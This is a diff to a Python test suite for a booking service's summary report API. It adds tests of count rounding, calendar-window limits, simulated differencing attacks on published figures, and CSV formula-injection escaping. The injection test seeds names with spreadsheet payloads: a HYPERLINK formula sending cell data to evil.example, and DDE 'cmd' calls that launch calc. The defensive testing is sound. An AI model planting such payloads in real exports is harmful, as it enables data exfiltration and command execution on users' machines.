@@ -1,16 +1,20 @@
 """The summary report (issue 10): a scripted month, seeded through the API on the manual clock,
 gives a report whose every figure the test computes itself from what it did; the CSV says the
-same; a publishable report hides every count under 5; and erasure changes nothing in it while
-leaving no personal value behind."""
+same; a publishable report (whole calendar months or quarters only) rounds every count to a
+multiple of 5 and hides 1 to 4, so no differencing of published cells gives a small count back;
+CSV cells never start a formula; and erasure changes nothing in it while leaving no personal
+value behind."""
 
 from __future__ import annotations
 
 import csv
 import io
+import math
+import random
 from collections import Counter, defaultdict
 from collections.abc import Callable
 from dataclasses import dataclass, field
-from datetime import UTC, datetime, timedelta
+from datetime import UTC, datetime, timedelta, timezone
 from typing import Any
 
 from service.db import Pool
@@ -18,7 +22,7 @@ from service.jobs import sweep_once
 from service.usecases import tx
 from service.usecases.purge import purge
 from tests.support.clock import ManualClock
-from tests.support.world import World, new_key, unique
+from tests.support.world import World, new_key, site_body, unique
 
 DAY = timedelta(days=1)
 WINDOW = 30 * DAY
@@ -67,6 +71,25 @@ def months(start: datetime, end: datetime) -> list[tuple[str, datetime, datetime
         cuts.append((month(first), max(first, start), min(following, end)))
         first = following
     return cuts
+
+
+def add_months(at: datetime, n: int) -> datetime:
+    """The first instant (UTC) of the month `n` months after the one `at` starts."""
+    index = at.year * 12 + at.month - 1 + n
+    return datetime(index // 12, index % 12 + 1, 1, tzinfo=UTC)
+
+
+def next_quarter(at: datetime) -> datetime:
+    """The first instant (UTC) of the calendar quarter after the one `at` is in."""
+    return add_months(datetime(at.year, (at.month - 1) // 3 * 3 + 1, 1, tzinfo=UTC), 3)
+
+
+def published(n: int) -> int | str:
+    """A count as a publishable report shows it: 0 stays 0, 1 to 4 are "<5", 5 and more are
+    rounded to the nearest multiple of 5."""
+    if n == 0:
+        return 0
+    return "<5" if n < 5 else 5 * math.floor(n / 5 + 0.5)
 
 
 def overlap_days(a: tuple[datetime, datetime], b: tuple[datetime, datetime]) -> float:
@@ -195,7 +218,9 @@ class Month:
 
 async def _seed(world: World, clock: ManualClock, db: Pool) -> tuple[Month, dict[str, Any]]:
     """The month: two sites of one provider in two areas (an instant one with 3 beds, one
-    taking requests with 2), a block, and every kind of outcome."""
+    taking requests with 2), a block, and every kind of outcome. It starts at the first instant
+    of the next calendar quarter, so that quarter is a window a publishable report may cover."""
+    clock.set(next_quarter(clock.now()))
     t0 = clock.now()
     m = Month(world, clock, db)
     area_1, area_2 = unique("Leeds"), unique("Bradford")
@@ -327,11 +352,13 @@ def _expected(
     with_searches: bool,
     with_offered: bool,
     by_month: bool,
+    window: tuple[datetime, datetime] | None = None,
 ) -> dict[str, dict[str, Any]]:
-    """Every group's figures from the script alone (not publishable); `key` names the group of
-    something done at an instant at a site."""
+    """Every group's figures from the script alone (not publishable) over `window` (the
+    script's 30 days unless given); `key` names the group of something done at an instant at
+    a site."""
     t0 = places["t0"]
-    window = (t0, t0 + WINDOW)
+    window = window or (t0, t0 + WINDOW)
     groups: dict[str, dict[str, Any]] = defaultdict(dict)
     keys: set[str] = set()
     counts: dict[str, Counter[str]] = defaultdict(Counter)
@@ -429,7 +456,7 @@ def _shown(expected: dict[str, Any], *, publishable: bool) -> dict[str, Any]:
         if isinstance(value, dict):
             return {k: hide(v) for k, v in value.items()}
         if publishable and isinstance(value, int) and not isinstance(value, bool):
-            return "<5" if 0 < value < 5 else value
+            return published(value)
         return value
 
     group = dict(expected)
@@ -442,6 +469,11 @@ def _shown(expected: dict[str, Any], *, publishable: bool) -> dict[str, Any]:
     measures = {k: group.pop(k) for k in ("bed_nights_offered", "bed_nights_used", "occupancy")}
     if publishable and 0 < stays_used < 5:
         measures["bed_nights_used"] = measures["occupancy"] = None
+    elif publishable:
+        used = 5 * math.floor(measures["bed_nights_used"] / 5 + 0.5)
+        offered = measures["bed_nights_offered"]
+        measures["bed_nights_used"] = float(used)
+        measures["occupancy"] = round(used / offered, 4) if offered else None
     shown = hide(group) | spans | measures
     shown["key"] = expected["key"]
     return shown
@@ -489,6 +521,12 @@ async def _report(world: World, key: str, **params: Any) -> tuple[dict[str, Any]
     assert csv_reply.status == 200
     assert csv_reply.content_type == "text/csv"
     return reply.body, csv_reply.raw
+
+
+def _is_count(column: str) -> bool:
+    """Whether a CSV column is a count (not the key, a time in minutes or bed-nights)."""
+    measures = ("key", "hold_to_", "bed_nights_", "occupancy")
+    return not column.startswith(measures)
 
 
 def _csv_rows(raw: bytes) -> list[dict[str, str]]:
@@ -545,16 +583,21 @@ async def test_a_scripted_month_reports_every_figure_as_done_and_survives_erasur
         ),
     ]
 
+    # The unpublished view over the script's 30 days; the publishable one over the calendar
+    # quarter they open (the only kind of window, with a month, it may cover).
+    quarter = (t0, add_months(t0, 3))
+    public_window = {"start": quarter[0], "end": quarter[1], "publishable": True}
     before: list[tuple[dict[str, Any], bytes, dict[str, Any], bytes]] = []
     for key, params, group_of, flags in scenarios:
-        expected = _expected(script, places, group_of, **flags)
         body, raw = await _report(world, key, **window, **params)
-        published, published_raw = await _report(world, key, **window, **params, publishable=True)
-        before.append((body, raw, published, published_raw))
+        public, public_raw = await _report(world, key, **public_window, **params)
+        before.append((body, raw, public, public_raw))
         assert body["searches_attributable"] is flags["with_searches"]
-        for report, report_raw, publishable in (
-            (body, raw, False),
-            (published, published_raw, True),
+        in_window = _expected(script, places, group_of, **flags)
+        in_quarter = _expected(script, places, group_of, **flags, window=quarter)
+        for report, report_raw, publishable, expected in (
+            (body, raw, False, in_window),
+            (public, public_raw, True, in_quarter),
         ):
             assert report["publishable"] is publishable
             assert report["group_by"] == params["group_by"]
@@ -567,9 +610,9 @@ async def test_a_scripted_month_reports_every_figure_as_done_and_survives_erasur
             for row, group in zip(rows, report["groups"], strict=True):
                 assert row == _flat(group)
             if publishable:
-                shown_counts = [cell for row in rows for name, cell in row.items() if name != "key"]
-                assert not any(cell in {"1", "2", "3", "4"} for cell in shown_counts)
-                assert "<5" in shown_counts
+                counts = [cell for row in rows for name, cell in row.items() if _is_count(name)]
+                assert "<5" in counts
+                assert all(cell in ("<5", "") or int(cell) % 5 == 0 for cell in counts), counts
 
     # The figures the script made sure of, spelled out once.
     by_force = {g["key"]: g for g in before[0][0]["groups"]}[world.force]
@@ -592,14 +635,9 @@ async def test_a_scripted_month_reports_every_figure_as_done_and_survives_erasur
         done = await purge(unit, RETENTION_DAYS, 24)
     assert done.erased >= 18
     clock.set(asked_at)
-    for (key, params, _, _), (body, raw, published, published_raw) in zip(
-        scenarios, before, strict=True
-    ):
+    for (key, params, _, _), (body, raw, public, public_raw) in zip(scenarios, before, strict=True):
         assert await _report(world, key, **window, **params) == (body, raw)
-        assert await _report(world, key, **window, **params, publishable=True) == (
-            published,
-            published_raw,
-        )
+        assert await _report(world, key, **public_window, **params) == (public, public_raw)
     async with db.acquire() as conn:
         rows = await conn.fetch(
             "SELECT 'booking' AS tbl, b::text AS row FROM booking b"
@@ -647,3 +685,237 @@ async def test_scope_and_bad_requests(world: World, clock: ManualClock) -> None:
     seen = await world.api.get(path, key=stranger, params=window)
     assert seen.status == 200
     assert [g["key"] for g in seen.body["groups"]] in ([], [force])
+
+
+# --- publication: differencing attacks (issue 14 item 5) --------------------------------------
+
+Table = dict[str, dict[str, str]]
+
+
+class Reader:
+    """An admin reading reports as JSON (flattened as the CSV is) or as CSV: a table of cells
+    by group key and column, or None when the window is refused."""
+
+    def __init__(self, world: World, as_csv: bool, publishable: bool) -> None:
+        self.world, self.as_csv, self.publishable = world, as_csv, publishable
+
+    async def table(self, start: datetime, end: datetime, **params: Any) -> Table | None:
+        params = {"start": start, "end": end, "publishable": self.publishable, **params}
+        headers = {"Accept": "text/csv"} if self.as_csv else None
+        reply = await self.world.api.get(
+            "/v1/reports/summary", key=self.world.admin, params=params, headers=headers
+        )
+        if reply.status == 400:
+            assert self.publishable, reply.body
+            assert reply.problem_type == "validation-error"
+            assert reply.field_names() and reply.field_names() <= {"start", "end"}, reply.body
+            assert "publishable" in reply.body["detail"], reply.body
+            return None
+        assert reply.status == 200, reply.body
+        if self.as_csv:
+            return {row["key"]: row for row in _csv_rows(reply.raw)}
+        return {g["key"] or "": _flat(g) for g in reply.body["groups"]}
+
+
+def _number(cell: str) -> int | None:
+    """A count cell as the attacker reads it: a number, or nothing ("<5", empty)."""
+    return int(cell) if cell.isdigit() else None
+
+
+def _minus(total: dict[str, str], parts: list[dict[str, str]]) -> list[int]:
+    """What `total` less the parts that show a number gives, per count column: the attack
+    that recovers the one hidden part."""
+    found = []
+    for column in total:
+        whole = _number(total[column])
+        if not _is_count(column) or whole is None:
+            continue
+        shown = [_number(part.get(column, "")) for part in parts]
+        found.append(whole - sum(n for n in shown if n is not None))
+    return found
+
+
+async def _attacks(
+    read: Reader, provider: str, forces: list[str], early: datetime, at: datetime
+) -> dict[str, list[int]]:
+    """The four ways issue 14 recovered a count shown as "<5", each giving every number it can
+    compute from cells an admin is shown; `at` is an instant a hold was made at."""
+    jan = (early, add_months(early, 1))
+    quarter = (early, add_months(early, 3))
+    months = [(add_months(early, i), add_months(early, i + 1)) for i in range(3)]
+    found: dict[str, list[int]] = defaultdict(list)
+
+    # 1. A total minus its shown parts (cancellations 8 - booked in error 6 = 2), all of them
+    # and each one.
+    by_force = await read.table(*jan, group_by="force")
+    assert by_force is not None
+    for force in forces:
+        row = by_force[force]
+        for total, prefix in (("cancellations", "cancelled_"), ("declined", "declined_")):
+            parts = [{total: cell} for column, cell in row.items() if column.startswith(prefix)]
+            found["total - parts"] += _minus({total: row[total]}, parts)
+            for part in parts:
+                found["total - parts"] += _minus({total: row[total]}, [part])
+
+    # 2. A month's total minus the forces shown.
+    by_month = await read.table(*jan, group_by="month")
+    assert by_month is not None
+    month_row = by_month[month(early)]
+    found["month - forces"] += _minus(month_row, list(by_force.values()))
+
+    # 3. No filter minus one force.
+    whole = await read.table(*jan, group_by="provider", provider=provider)
+    assert whole is not None
+    for force in forces:
+        one = await read.table(*jan, group_by="provider", provider=provider, force=force)
+        assert one is not None
+        found["no filter - one force"] += _minus(whole[provider], [one[provider]])
+
+    # 4. Overlapping windows: [early, t1) - [early, t0) a second apart, and a quarter less its
+    # months.
+    longer = await read.table(early, at + timedelta(seconds=1), group_by="provider")
+    shorter = await read.table(early, at, group_by="provider")
+    if longer is not None and shorter is not None:
+        found["overlapping windows"] += _minus(longer[provider], [shorter[provider]])
+    else:
+        assert longer is None and shorter is None
+    in_quarter = await read.table(*quarter, group_by="provider", provider=provider)
+    assert in_quarter is not None
+    tables = [await read.table(*m, group_by="provider", provider=provider) for m in months]
+    rows = [t[provider] for t in tables if t is not None and provider in t]
+    found["overlapping windows"] += _minus(in_quarter[provider], rows)
+    for row in rows:
+        found["overlapping windows"] += _minus(in_quarter[provider], [row])
+    return dict(found)
+
+
+async def test_differencing_publishable_reports_gives_back_no_count_from_1_to_4(
+    world: World, clock: ManualClock
+) -> None:
+    """A quarter of this test's own, far ahead so an admin's unfiltered report holds nothing
+    else: force A cancels 8 bookings in its first month (6 booked in error, 2 transport
+    failed), force B 2 that month and 3 the next. Unpublished, the four attacks read 2, 3 and
+    1 straight off; published, none of them gives a number from 1 to 4."""
+    early = datetime(random.randrange(2200, 2900), 1, 1, tzinfo=UTC)
+    clock.set(early + 2 * DAY)
+    site = (await world.site(area=unique("Wakefield")))["id"]
+    for _ in range(2):
+        await world.bed(site)
+    force_b = unique("f")
+    made = await world.api.post("/v1/forces", {"code": force_b, "name": force_b}, key=world.admin)
+    assert made.status == 201, made.body
+    officer_b = await new_key(world.api, world.admin, role="officer", force=force_b)
+
+    async def cancelled(officer: str, code: str) -> datetime:
+        clock.advance(hours=1)
+        booking = await world.book(site, clock.now(), key=officer)
+        await world.act(booking["id"], "cancel", key=officer, reason_code=code)
+        return clock.now()
+
+    for code in ["booked_in_error"] * 6 + ["transport_failed"] * 2:
+        await cancelled(world.officer, code)
+    at = await cancelled(officer_b, "booked_in_error")
+    await cancelled(officer_b, "booked_in_error")
+    clock.set(add_months(early, 1) + 2 * DAY)
+    for _ in range(3):
+        await cancelled(officer_b, "booked_in_error")
+    clock.set(add_months(early, 4))
+
+    forces = [world.force, force_b]
+    for as_csv in (False, True):
+        plain = await _attacks(Reader(world, as_csv, False), world.provider_id, forces, early, at)
+        # The attacks are real: with nothing protecting the figures they give 2, 3 and 1 (a
+        # month less its forces gives 0 here, every force being shown; it bites when one is
+        # hidden as "<5" and the others are exact, as they were before rounding).
+        assert 2 in plain["total - parts"] and 2 in plain["no filter - one force"]
+        assert {1, 3} <= set(plain["overlapping windows"])
+        public = await _attacks(Reader(world, as_csv, True), world.provider_id, forces, early, at)
+        small = {name: [n for n in found if 1 <= n <= 4] for name, found in public.items()}
+        assert small == {attack: [] for attack in plain}, ("csv" if as_csv else "json", small)
+
+
+async def test_a_publishable_report_covers_a_whole_calendar_month_or_quarter(
+    world: World,
+) -> None:
+    path = "/v1/reports/summary"
+    jan = datetime(2031, 1, 1, tzinfo=UTC)
+    for start, end in (
+        (jan, add_months(jan, 1)),
+        (add_months(jan, 1), add_months(jan, 2)),
+        (jan, add_months(jan, 3)),
+        (add_months(jan, 9), add_months(jan, 12)),
+    ):
+        reply = await world.api.get(
+            path, key=world.admin, params={"start": start, "end": end, "publishable": True}
+        )
+        assert reply.status == 200, (start, end, reply.body)
+    for start, end, field_name in (
+        (jan + timedelta(seconds=1), add_months(jan, 1), "start"),
+        (jan, add_months(jan, 1) - timedelta(seconds=1), "end"),
+        (jan, jan + DAY, "end"),
+        (jan, add_months(jan, 2), "end"),
+        # Three months that are not a calendar quarter.
+        (add_months(jan, 1), add_months(jan, 4), "end"),
+        # Midnight on the first, but not in UTC.
+        (datetime(2031, 1, 1, tzinfo=timezone(timedelta(hours=1))), add_months(jan, 1), "start"),
+    ):
+        reply = await world.api.get(
+            path, key=world.admin, params={"start": start, "end": end, "publishable": True}
+        )
+        assert reply.status == 400, (start, end, reply.body)
+        assert reply.problem_type == "validation-error"
+        assert field_name in reply.field_names(), reply.body
+        # The same window unpublished is fine.
+        reply = await world.api.get(path, key=world.admin, params={"start": start, "end": end})
+        assert reply.status == 200, reply.body
+
+
+# --- CSV formula injection (issue 14 item 7) ---------------------------------------------------
+
+FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
+
+
+async def test_no_csv_cell_starts_a_spreadsheet_formula(
+    world: World, db: Pool, clock: ManualClock
+) -> None:
+    """Sites named, and in areas named, as a spreadsheet would run them: `=`, `+`, `-` and `@`
+    through the API; a leading tab or carriage return the API refuses, so those two are
+    written straight into the database (as an older row or a hand fix could be)."""
+    areas = {
+        "=": f'=HYPERLINK("http://evil.example/"&A1,"{unique("x")}")',
+        "+": f"+1+cmd|' /C calc'!{unique('A')}",
+        "-": f"-2+3+cmd|' /C calc'!{unique('A')}",
+        "@": f"@SUM(1+1)*cmd|' /C calc'!{unique('A')}",
+        "\t": f"\t=1+1 {unique('tab')}",
+        "\r": f"\r=1+1 {unique('cr')}",
+    }
+    for lead, area in areas.items():
+        if lead in "\t\r":
+            refused = await world.api.post(
+                "/v1/sites", site_body(area=area, name=area), key=world.provider
+            )
+            assert refused.status == 400 and "area" in refused.field_names(), refused.body
+            site = await world.site(area=unique("Leeds"))
+            async with db.acquire() as conn:
+                await conn.execute("UPDATE site SET area = $1 WHERE id = $2", area, site["id"])
+        else:
+            site = await world.site(area=area, name=area)
+        await world.bed(site["id"])
+    clock.advance(hours=1)
+    start = datetime(clock.now().year, clock.now().month, 1, tzinfo=UTC)
+    window = {"start": start, "end": add_months(start, 1), "provider": world.provider_id}
+    for group_by in ("area", "provider"):
+        for publishable in (False, True):
+            reply = await world.api.get(
+                "/v1/reports/summary",
+                key=world.admin,
+                params={**window, "group_by": group_by, "publishable": publishable},
+                headers={"Accept": "text/csv"},
+            )
+            assert reply.status == 200, reply.body
+            rows = list(csv.reader(io.StringIO(reply.raw.decode("utf-8"), newline="")))
+            cells = [cell for row in rows for cell in row]
+            assert not [c for c in cells if c.startswith(FORMULA_STARTS)], (group_by, cells)
+            if group_by == "area":
+                keys = {row[0] for row in rows[1:]}
+                assert {f"'{area}" for area in areas.values()} <= keys, keys
